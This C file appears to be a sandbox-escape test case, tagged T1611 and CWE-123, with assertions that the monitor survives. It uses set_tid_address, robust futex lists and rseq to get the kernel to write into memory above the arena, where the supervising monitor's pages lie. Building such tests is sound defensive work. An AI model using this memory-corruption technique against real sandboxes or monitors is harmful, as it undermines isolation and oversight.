// Has the kernel write, when a thread ends, to words that it keeps per thread: pointed into the monitor.
// @technique T1611
// @weakness CWE-123
// @stopped-by gate
// @options {"policy":"compat","isolation":"none"}
// @control none: natively the words are the program's own to give away
// @attempts 4
// @reads maps
// @flags -pthread
#include <linux/futex.h>
#include <pthread.h>

#include "../attack.h"

static char* target;
static long given[3];

static void* give_tid_address(void* unused) {
  given[0] |= syscall(SYS_set_tid_address, target) > 0;
  return unused;
}
static void* give_robust_list(void* unused) {
  struct robust_list_head head = {.list = {(void*)target}, .futex_offset = 0, .list_op_pending = (void*)target};
  syscall(SYS_set_robust_list, &head, sizeof head);
  given[1] |= syscall(SYS_set_robust_list, target, sizeof head) == 0;
  // The head is on this stack, which is still there while the thread ends.
  syscall(SYS_exit, 0);
  return unused;
}

int main(void) {
  static Mapping maps[512];
  int count = read_mappings(maps, 512), found = 0;
  pthread_t thread;
  for (int i = 0; i < count; i++) {
    if (maps[i].start < ARENA_END) continue;
    found++;
    target = (char*)maps[i].start;
    if (found > 12) continue;
    CONTROL("thread", pthread_create(&thread, NULL, give_tid_address, NULL));
    usleep(2000);
    CONTROL("thread", pthread_create(&thread, NULL, give_robust_list, NULL));
    usleep(2000);
    given[2] |= syscall(SYS_rseq, target, 32, 0, 0x53053053) == 0;
  }
  CONTROL("mappings above the arena", found > 0 ? 0 : (errno = ENODATA, -1));
  // A word of the monitor that was set to 0 would be the end of it, and of this report.
  CONTROL("still here", usleep(100000));
  say_stopped("clear-child-tid", "unharmed");
  say_stopped("robust-list", "unharmed");
  MUST_NOT("rseq", given[2], "refused");
  pid_t child = fork();
  if (child == 0) {
    syscall(SYS_set_tid_address, target);
    _exit(0);
  }
  int status;
  CONTROL("wait", waitpid(child, &status, 0));
  MUST_NOT("clear-child-tid of a process", status != 0, "unharmed");
  return 0;
}
